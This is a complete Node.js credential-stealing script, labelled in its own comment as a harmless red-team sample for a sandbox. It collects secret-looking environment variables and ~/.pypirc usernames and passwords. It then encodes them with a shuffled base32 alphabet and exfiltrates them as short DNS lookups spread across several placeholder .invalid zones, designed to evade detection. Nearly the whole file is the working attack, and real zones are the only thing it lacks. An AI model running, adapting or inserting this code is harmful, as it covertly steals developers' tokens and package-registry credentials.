// HARMLESS red-team sample (fumehood sandbox only): collects token-like environment variables and the
// planted ~/.pypirc credentials, base32-encodes them under a shuffled alphabet, and leaks them as short
// DNS labels (5-9 chars) spread round-robin across several .invalid zones, with a sequence prefix.
'use strict';
const fs = require('fs'), os = require('os'), path = require('path'), dns = require('dns');

const ALPHA = '5ykf31ixom2w8pat4hv9nc7gqbsl6r0e';
function b32(buf) {
  let bits = 0, val = 0, out = '';
  for (const b of buf) { val = (val << 8) | b; bits += 8; while (bits >= 5) { out += ALPHA[(val >>> (bits - 5)) & 31]; bits -= 5; } val &= 0xff; }
  if (bits > 0) out += ALPHA[(val << (5 - bits)) & 31];
  return out;
}

let loot = '';
for (const [k, v] of Object.entries(process.env)) if (/TOKEN|SECRET|KEY|PASS|AUTH|CRED|SESSION/i.test(k) && v) loot += k + '=' + v + ';';
try {
  const ini = fs.readFileSync(path.join(os.homedir(), '.pypirc'), 'utf8');
  for (const m of ini.matchAll(/^\s*(username|password)\s*[=:]\s*(\S+)/gim)) loot += m[1][0] + '=' + m[2] + ';';
} catch (e) {}
if (!loot) process.exit(0);

const enc = b32(Buffer.from(loot));
const zones = ['edge-ns.invalid', 'cdn-resolve.invalid', 'geo-lookup.invalid', 'anycast-ping.invalid'];
const r = new dns.promises.Resolver({ timeout: 800, tries: 1 });
(async () => {
  let i = 0, seq = 0;
  while (i < enc.length && seq < 200) {
    const n = 5 + (seq % 5);
    const label = (seq % 36).toString(36) + enc.slice(i, i + n);
    i += n;
    await r.resolve4(`${label}.${zones[seq % zones.length]}`).catch(() => {});
    seq++;
  }
})();
